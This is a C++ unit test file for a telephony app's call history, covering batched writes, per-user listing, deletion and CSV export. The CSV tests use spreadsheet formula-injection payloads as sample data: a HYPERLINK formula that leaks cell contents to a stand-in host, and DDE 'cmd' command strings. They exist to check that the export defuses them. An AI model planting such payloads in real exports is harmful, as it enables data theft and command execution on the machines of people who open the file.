// The call history on both storage backends: batched writes that a read
// waits for, newest first, each user's own calls only, every field back as it
// went in (transfers included), and a deleted user's history gone with them.
// Twice: committed on the loop (no writer connection) and by the writer
// thread on a second connection to the same (file or server) database.
// Last, the CSV export and its defence against formula injection.
#include <gtest/gtest.h>

#include <chrono>
#include <functional>
#include <set>
#include <thread>

#include "app/call_history.hpp"
#include "directory/csv.hpp"
#include "directory_fixture.hpp"

namespace cvw::app {
namespace {

using namespace std::chrono_literals;

// How long a test waits for the writer thread to do what it must do at once
// (generous: sanitizer builds and a loaded machine are slow).
constexpr auto kPatience = 20s;

// Polls `condition` until it holds or kPatience passed: the writer thread
// runs on its own, and nothing on the loop tells the test it committed.
bool eventually(const std::function<bool()>& condition) {
  const auto deadline = std::chrono::steady_clock::now() + kPatience;
  while (!condition()) {
    if (std::chrono::steady_clock::now() > deadline) return false;
    std::this_thread::sleep_for(2ms);
  }
  return true;
}

class CallHistoryTest : public test::DirectoryTest {
 protected:
  void SetUp() override {
    DirectoryTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    for (const char* uri : {"sip:alice@example.com", "sip:bob@example.com"}) {
      directory::User u;
      u.sip_uri = uri;
      ASSERT_TRUE(directory_->create_user(u).ok());
    }
    history_ = make_history({.flush_after = 200ms, .batch_limit = 3, .read_wait_limit = kPatience});
  }

  virtual std::unique_ptr<CallHistory> make_history(CallHistoryOptions options) {
    return std::make_unique<CallHistory>(db(), timers_, nullptr, options);
  }

  calls::CallInfo ended(const std::string& id, const std::string& owner, std::chrono::milliseconds at) {
    calls::CallInfo c;
    c.id = id;
    c.owner = owner;
    c.state = calls::CallState::Ended;
    c.to = "102";
    c.target_kind = calls::TargetKind::Number;
    c.target_uri = "sip:+14255550102@127.0.0.1:5070;user=phone";
    c.target_number = "+14255550102";
    c.phone_number = "+14255550101";
    c.started_at = calls::Clock::time_point(at - 30s);
    c.ended_at = calls::Clock::time_point(at);
    c.reason = calls::EndReason{calls::EndCode::CalleeBusy, 486, calls::Party::Callee, "busy (SIP 486)"};
    return c;
  }
  std::size_t rows() {
    auto r = db().execute("SELECT COUNT(*) AS n FROM call_history");
    return r ? static_cast<std::size_t>(r->rows.at(0).integer(0)) : 0;
  }

  // The checks that hold whoever commits.

  void expect_every_field_back() {
    calls::CallInfo c = ended("c-1", "sip:alice@example.com", 1'800'000'000'000ms);
    c.operation_id = "op-1";
    c.subject = "Quarterly numbers";
    c.connected_at = calls::Clock::time_point(1'800'000'000'000ms - 20s);
    c.reason = calls::EndReason{calls::EndCode::Completed, 0, calls::Party::Callee, "The other person hung up"};
    c.transfer_kind = calls::TransferKind::Blind;
    c.transferred_to = "sip:+14255550199@pbx.example.com";
    history_->record(c);
    auto list = history_->list("sip:alice@example.com", 10);
    ASSERT_TRUE(list.ok()) << list.error().message;
    ASSERT_EQ(list->size(), 1u);
    const calls::CallInfo& back = (*list)[0];
    EXPECT_EQ(back.id, "c-1");
    EXPECT_EQ(back.owner, "sip:alice@example.com");
    EXPECT_EQ(back.state, calls::CallState::Ended);
    EXPECT_EQ(back.to, "102");
    EXPECT_EQ(back.target_kind, calls::TargetKind::Number);
    EXPECT_EQ(back.target_uri, c.target_uri);
    EXPECT_EQ(back.target_number, "+14255550102");
    EXPECT_EQ(back.phone_number, "+14255550101");
    EXPECT_EQ(back.operation_id, c.operation_id);
    EXPECT_EQ(back.subject, c.subject);
    EXPECT_EQ(back.started_at, c.started_at);
    EXPECT_EQ(back.connected_at, c.connected_at);
    EXPECT_EQ(back.ended_at, c.ended_at);
    ASSERT_TRUE(back.reason.has_value());
    EXPECT_EQ(back.reason->code, calls::EndCode::Completed);
    EXPECT_EQ(back.reason->by, calls::Party::Callee);
    EXPECT_EQ(back.reason->sip_status, 0);
    EXPECT_EQ(back.reason->message, "The other person hung up");
    EXPECT_EQ(back.transfer_kind, calls::TransferKind::Blind);
    EXPECT_EQ(back.transferred_to, "sip:+14255550199@pbx.example.com");
  }

  void expect_a_failed_batch_reported_to_the_read_after_it() {
    history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
    ASSERT_TRUE(history_->flush().ok());
    // The same id again: the primary key fails the whole batch.
    history_->record(ended("c-1", "sip:alice@example.com", 2'000'000ms));
    auto failed = history_->list("sip:alice@example.com", 10);
    ASSERT_FALSE(failed.ok()) << "the read would hide a lost call";
    EXPECT_EQ(failed.error().status, 409) << failed.error().message;
    EXPECT_EQ(history_->metrics().write_failures, 1u);
    EXPECT_EQ(history_->metrics().written, 1u);
    auto next = history_->list("sip:alice@example.com", 10);
    ASSERT_TRUE(next.ok()) << "reported once, to the read that waited for it: " << next.error().message;
    EXPECT_EQ(next->size(), 1u);
  }

  void expect_deleted_users_calls_dropped_not_the_batch() {
    history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
    ASSERT_TRUE(history_->flush().ok());
    // bob's call ends after bob was deleted: skipped, alice's call of the same
    // batch is still written.
    ASSERT_TRUE(directory_->delete_user("sip:bob@example.com").ok());
    history_->record(ended("c-2", "sip:bob@example.com", 2'000'000ms));
    history_->record(ended("c-3", "sip:alice@example.com", 3'000'000ms));
    ASSERT_TRUE(history_->flush().ok());
    EXPECT_EQ(rows(), 2u);
    // Deleting alice takes her history with her.
    ASSERT_TRUE(directory_->delete_user("sip:alice@example.com").ok());
    EXPECT_EQ(rows(), 0u);
  }

  ManualTimerService timers_;
  std::unique_ptr<CallHistory> history_;
};

// Committed on the loop: no writer connection (as for an in-memory SQLite database).

TEST_P(CallHistoryTest, EveryFieldComesBackAsItWentIn) {
  EXPECT_FALSE(history_->has_writer_thread());
  expect_every_field_back();
}

TEST_P(CallHistoryTest, ACallNotTransferredHasNoTransferFields) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  calls::CallInfo attended = ended("c-2", "sip:alice@example.com", 2'000'000ms);
  attended.transfer_kind = calls::TransferKind::Attended;
  attended.transferred_to = "\"Carol\" <sip:carol@example.com>";
  history_->record(attended);
  auto list = history_->list("sip:alice@example.com", 10);
  ASSERT_TRUE(list.ok()) << list.error().message;
  ASSERT_EQ(list->size(), 2u);
  EXPECT_EQ((*list)[0].transfer_kind, calls::TransferKind::Attended);
  EXPECT_EQ((*list)[0].transferred_to, "\"Carol\" <sip:carol@example.com>");
  EXPECT_EQ((*list)[1].transfer_kind, calls::TransferKind::None);
  EXPECT_EQ((*list)[1].transferred_to, "");
  auto nulls = db().execute(
      "SELECT COUNT(*) AS n FROM call_history WHERE transfer_kind IS NULL AND transferred_to IS NULL");
  ASSERT_TRUE(nulls.ok()) << nulls.error().message;
  EXPECT_EQ(nulls->rows.at(0).integer(0), 1) << "stored as NULL, not as empty text";
}

TEST_P(CallHistoryTest, AMissedIncomingCallIsKeptWithItsCaller) {
  calls::CallInfo missed = ended("c-in", "sip:alice@example.com", 3'000'000ms);
  missed.direction = calls::Direction::Incoming;
  missed.from = "\"Carol\" <sip:+14255550199@pbx.example.com>";
  missed.reason = calls::end_reason(calls::EndCode::Missed, calls::Party::Server,
                                    "Missed call: nobody answered within 20 s", 480);
  calls::CallInfo answered = ended("c-in2", "sip:alice@example.com", 4'000'000ms);
  answered.direction = calls::Direction::Incoming;
  answered.from = "<sip:bob@example.com>";
  answered.answered_on = calls::AnsweredOn::Callback;
  history_->record(missed);
  history_->record(answered);
  history_->record(ended("c-out", "sip:alice@example.com", 1'000'000ms));
  auto list = history_->list("sip:alice@example.com", 10);
  ASSERT_TRUE(list.ok()) << list.error().message;
  ASSERT_EQ(list->size(), 3u);
  EXPECT_EQ((*list)[0].direction, calls::Direction::Incoming);
  EXPECT_EQ((*list)[0].answered_on, calls::AnsweredOn::Callback);
  EXPECT_EQ((*list)[1].direction, calls::Direction::Incoming);
  EXPECT_EQ((*list)[1].from, "\"Carol\" <sip:+14255550199@pbx.example.com>");
  EXPECT_EQ((*list)[1].answered_on, calls::AnsweredOn::None);
  EXPECT_EQ((*list)[1].reason->code, calls::EndCode::Missed);
  EXPECT_EQ((*list)[1].reason->by, calls::Party::Server);
  EXPECT_EQ((*list)[2].direction, calls::Direction::Outgoing);
  EXPECT_EQ((*list)[2].from, "");
}

TEST_P(CallHistoryTest, WritesAreBatchedUntilTheTimerOrTheLimit) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  history_->record(ended("c-2", "sip:alice@example.com", 2'000'000ms));
  EXPECT_EQ(rows(), 0u) << "queued, not yet written";
  timers_.advance(250ms);
  EXPECT_EQ(rows(), 2u) << "the flush timer wrote both in one transaction";
  for (int i = 3; i <= 5; ++i) history_->record(ended("c-" + std::to_string(i), "sip:alice@example.com", 3'000'000ms));
  EXPECT_EQ(rows(), 5u) << "the batch limit (3) wrote at once";
  EXPECT_EQ(history_->metrics().written, 5u);
}

TEST_P(CallHistoryTest, NewestFirstOwnCallsOnlyAndLimited) {
  history_->record(ended("c-old", "sip:alice@example.com", 1'000'000ms));
  history_->record(ended("c-new", "sip:alice@example.com", 3'000'000ms));
  history_->record(ended("c-bob", "sip:bob@example.com", 2'000'000ms));
  auto alice = history_->list("sip:alice@example.com", 10);
  ASSERT_TRUE(alice.ok());
  ASSERT_EQ(alice->size(), 2u);
  EXPECT_EQ((*alice)[0].id, "c-new");
  EXPECT_EQ((*alice)[1].id, "c-old");
  auto one = history_->list("sip:alice@example.com", 1);
  ASSERT_TRUE(one.ok());
  ASSERT_EQ(one->size(), 1u);
  auto bob = history_->list("sip:bob@example.com", 10);
  ASSERT_TRUE(bob.ok());
  ASSERT_EQ(bob->size(), 1u);
  EXPECT_EQ((*bob)[0].id, "c-bob");
}

TEST_P(CallHistoryTest, ADeletedUsersCallsAreDroppedNotTheBatch) { expect_deleted_users_calls_dropped_not_the_batch(); }

TEST_P(CallHistoryTest, AFailedBatchIsCountedAndReportedToTheNextRead) {
  expect_a_failed_batch_reported_to_the_read_after_it();
}

TEST_P(CallHistoryTest, DestructionWritesWhatIsQueued) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  history_.reset();
  EXPECT_EQ(rows(), 1u);
}

TEST_P(CallHistoryTest, CsvExportHasOneRowPerCallNewestFirst) {
  calls::CallInfo c = ended("c-1", "sip:alice@example.com", 1'800'000'000'000ms);
  c.connected_at = calls::Clock::time_point(1'800'000'000'000ms - 20s);
  c.subject = "Budget, \"Q3\"";
  c.transfer_kind = calls::TransferKind::Attended;
  c.transferred_to = "sip:carol@example.com";
  history_->record(c);
  history_->record(ended("c-2", "sip:bob@example.com", 1'800'000'100'000ms));
  auto all = history_->list_all(10);
  ASSERT_TRUE(all.ok());
  const std::string csv = call_history_csv(*all);
  auto rows = directory::parse_csv(csv);
  ASSERT_TRUE(rows.ok()) << rows.error().message;
  ASSERT_EQ(rows->size(), 3u);
  ASSERT_EQ((*rows)[0].fields.size(), 21u);
  EXPECT_EQ((*rows)[0].fields.at(0), "id");
  EXPECT_EQ((*rows)[0].fields.at(16), "transferKind");
  EXPECT_EQ((*rows)[0].fields.at(17), "transferredTo");
  EXPECT_EQ((*rows)[0].fields.at(18), "direction");
  EXPECT_EQ((*rows)[2].fields.at(18), "outgoing");
  EXPECT_EQ((*rows)[1].fields.at(0), "c-2");
  EXPECT_EQ((*rows)[1].fields.at(16), "") << "not transferred";
  EXPECT_EQ((*rows)[1].fields.at(17), "");
  EXPECT_EQ((*rows)[2].fields.at(0), "c-1");
  EXPECT_EQ((*rows)[2].fields.at(1), "sip:alice@example.com");
  EXPECT_EQ((*rows)[2].fields.at(4), "+14255550102") << "a phone number stays a number";
  EXPECT_EQ((*rows)[2].fields.at(9), "20") << "seconds connected";
  EXPECT_EQ((*rows)[2].fields.at(10), "CalleeBusy");
  EXPECT_EQ((*rows)[2].fields.at(12), "486");
  EXPECT_EQ((*rows)[2].fields.at(15), "Budget, \"Q3\"") << "quoted and escaped, read back intact";
  EXPECT_EQ((*rows)[2].fields.at(16), "attended");
  EXPECT_EQ((*rows)[2].fields.at(17), "sip:carol@example.com");
}

TEST_P(CallHistoryTest, CsvExportDefusesFormulasFromCallersAndClients) {
  calls::CallInfo c = ended("c-1", "sip:alice@example.com", 1'800'000'000'000ms);
  c.to = "=HYPERLINK(\"http://evil.example/?\"&A1,\"call\")";
  c.subject = "+cmd|' /C calc'!A0";
  c.reason = calls::EndReason{calls::EndCode::Failed, 0, calls::Party::Server, "@SUM(1+1)"};
  c.transfer_kind = calls::TransferKind::Blind;
  c.transferred_to = "-2+3+cmd|' /C calc'!A0";
  history_->record(c);
  auto all = history_->list_all(10);
  ASSERT_TRUE(all.ok()) << all.error().message;
  auto rows = directory::parse_csv(call_history_csv(*all));
  ASSERT_TRUE(rows.ok()) << rows.error().message;
  ASSERT_EQ(rows->size(), 2u);
  const std::vector<std::string>& f = (*rows)[1].fields;
  EXPECT_EQ(f.at(2), "'" + c.to);
  EXPECT_EQ(f.at(4), "+14255550102");
  EXPECT_EQ(f.at(5), "+14255550101");
  EXPECT_EQ(f.at(13), "'@SUM(1+1)");
  EXPECT_EQ(f.at(15), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(f.at(17), "'-2+3+cmd|' /C calc'!A0");
}

// Committed by the writer thread on its own connection.
class CallHistoryWriterTest : public CallHistoryTest {
 protected:
  std::unique_ptr<CallHistory> make_history(CallHistoryOptions options) override {
    auto writer = scratch().open();
    EXPECT_TRUE(writer.ok()) << writer.error().message;
    if (!writer) return nullptr;
    return std::make_unique<CallHistory>(db(), timers_, std::move(*writer), options);
  }
  void SetUp() override {
    CallHistoryTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    ASSERT_NE(history_, nullptr);
    ASSERT_TRUE(history_->has_writer_thread());
  }
};

TEST_P(CallHistoryWriterTest, EveryFieldComesBackAsItWentIn) { expect_every_field_back(); }

TEST_P(CallHistoryWriterTest, AReadSeesEveryCallRecordedBeforeIt) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  history_->record(ended("c-2", "sip:alice@example.com", 2'000'000ms));
  // Below the batch limit and no timer fired: only the read makes the writer write.
  auto list = history_->list("sip:alice@example.com", 10);
  ASSERT_TRUE(list.ok()) << list.error().message;
  ASSERT_EQ(list->size(), 2u);
  EXPECT_EQ((*list)[0].id, "c-2");
  EXPECT_EQ(history_->metrics().written, 2u);
  auto all = history_->list_all(10);
  ASSERT_TRUE(all.ok()) << all.error().message;
  EXPECT_EQ(all->size(), 2u);
}

TEST_P(CallHistoryWriterTest, AFullBatchIsWrittenWithoutTheTimer) {
  for (int i = 1; i <= 3; ++i) history_->record(ended("c-" + std::to_string(i), "sip:alice@example.com", 1'000'000ms));
  EXPECT_TRUE(eventually([&] { return rows() == 3; })) << "the batch limit (3) woke the writer; rows: " << rows();
  EXPECT_TRUE(eventually([&] { return history_->metrics().written == 3; }));
}

TEST_P(CallHistoryWriterTest, TheTimerWakesTheWriter) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  history_->record(ended("c-2", "sip:alice@example.com", 2'000'000ms));
  std::this_thread::sleep_for(50ms);  // time enough for a writer that would not wait
  EXPECT_EQ(rows(), 0u) << "queued until the timer or the limit";
  timers_.advance(250ms);
  EXPECT_TRUE(eventually([&] { return rows() == 2; })) << "rows: " << rows();
}

TEST_P(CallHistoryWriterTest, DestructionWritesWhatIsQueued) {
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  history_->record(ended("c-2", "sip:bob@example.com", 2'000'000ms));
  history_.reset();
  EXPECT_EQ(rows(), 2u) << "the writer committed the queue before it stopped";
}

TEST_P(CallHistoryWriterTest, ADeletedUsersCallsAreDroppedNotTheBatch) {
  expect_deleted_users_calls_dropped_not_the_batch();
}

TEST_P(CallHistoryWriterTest, AFailedBatchIsCountedAndReportedToTheNextRead) {
  expect_a_failed_batch_reported_to_the_read_after_it();
}

TEST_P(CallHistoryWriterTest, ManyCallsRecordedWhileTheWriterCommits) {
  history_ = make_history({.flush_after = 200ms, .batch_limit = 25, .read_wait_limit = kPatience});
  ASSERT_NE(history_, nullptr);
  constexpr int kCalls = 1000;
  for (int i = 0; i < kCalls; ++i) {
    const char* owner = i % 2 == 0 ? "sip:alice@example.com" : "sip:bob@example.com";
    history_->record(ended("c-" + std::to_string(i), owner, std::chrono::milliseconds(1'000'000 + i)));
    if (i % 40 == 7) timers_.advance(250ms);
    if (i % 100 == 99) {
      auto alice = history_->list("sip:alice@example.com", 1);
      ASSERT_TRUE(alice.ok()) << alice.error().message;
      ASSERT_EQ(alice->size(), 1u);
      EXPECT_EQ((*alice)[0].id, "c-" + std::to_string(i - 1)) << "the read waited for the newest call";
    }
  }
  auto all = history_->list_all(kCalls * 2);
  ASSERT_TRUE(all.ok()) << all.error().message;
  ASSERT_EQ(all->size(), static_cast<std::size_t>(kCalls));
  std::set<std::string> ids;
  for (const calls::CallInfo& c : *all) ids.insert(c.id);
  EXPECT_EQ(ids.size(), static_cast<std::size_t>(kCalls)) << "each call once";
  EXPECT_EQ(history_->metrics().written, static_cast<std::uint64_t>(kCalls));
  EXPECT_EQ(history_->metrics().write_failures, 0u);
}

TEST_P(CallHistoryWriterTest, AReadGivesUpOnAStuckWriterWith503) {
  history_ = make_history({.flush_after = 200ms, .batch_limit = 3, .read_wait_limit = 100ms});
  ASSERT_NE(history_, nullptr);
  history_->record(ended("c-1", "sip:alice@example.com", 1'000'000ms));
  // The test's own connection holds the lock the writer needs (SQLite: the
  // database's write lock, taken by BEGIN IMMEDIATE; PostgreSQL: the table).
  auto held = db().transaction([&]() -> Result<void> {
    if (db().backend() == "postgresql") {
      if (auto r = db().execute("LOCK TABLE call_history IN EXCLUSIVE MODE"); !r) return r.error();
    }
    auto stuck = history_->list("sip:alice@example.com", 10);
    EXPECT_FALSE(stuck.ok()) << "answered while the writer could not write";
    if (!stuck) {
      EXPECT_EQ(stuck.error().status, 503);
      EXPECT_NE(stuck.error().message.find("not written yet"), std::string::npos) << stuck.error().message;
    }
    return {};
  });
  ASSERT_TRUE(held.ok()) << held.error().message;
  // The lock is free again well within the backends' 5 s lock wait.
  history_ = nullptr;  // joins the writer: it committed once the lock was free
  EXPECT_EQ(rows(), 1u);
}

INSTANTIATE_TEST_SUITE_P(Storage, CallHistoryTest, ::testing::ValuesIn(storage::test::kBothBackends),
                         storage::test::BackendName());
INSTANTIATE_TEST_SUITE_P(Storage, CallHistoryWriterTest, ::testing::ValuesIn(storage::test::kBothBackends),
                         storage::test::BackendName());

// The cells of the export, one rule at a time.

TEST(CallHistoryCsvCell, FormulaStartsGetAQuote) {
  EXPECT_EQ(csv_injection_safe("=1+1"), "'=1+1");
  EXPECT_EQ(csv_injection_safe("@SUM(A1:A2)"), "'@SUM(A1:A2)");
  EXPECT_EQ(csv_injection_safe("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(csv_injection_safe("\r=1+1"), "'\r=1+1");
  EXPECT_EQ(csv_injection_safe("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_injection_safe("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_injection_safe("+"), "'+") << "a sign and no digit is no phone number";
  EXPECT_EQ(csv_injection_safe("- -"), "'- -");
}

TEST(CallHistoryCsvCell, PhoneNumbersAndPlainTextStayAsTheyAre) {
  EXPECT_EQ(csv_injection_safe("+14255550100"), "+14255550100");
  EXPECT_EQ(csv_injection_safe("+1 (425) 555-0100"), "+1 (425) 555-0100");
  EXPECT_EQ(csv_injection_safe("+44.20.7946.0958"), "+44.20.7946.0958");
  EXPECT_EQ(csv_injection_safe("-1"), "-1");
  EXPECT_EQ(csv_injection_safe("sip:+14255550100@pbx.example.com"), "sip:+14255550100@pbx.example.com");
  EXPECT_EQ(csv_injection_safe("a=b"), "a=b") << "only the first character counts";
  EXPECT_EQ(csv_injection_safe(""), "");
}

}  // namespace
}  // namespace cvw::app
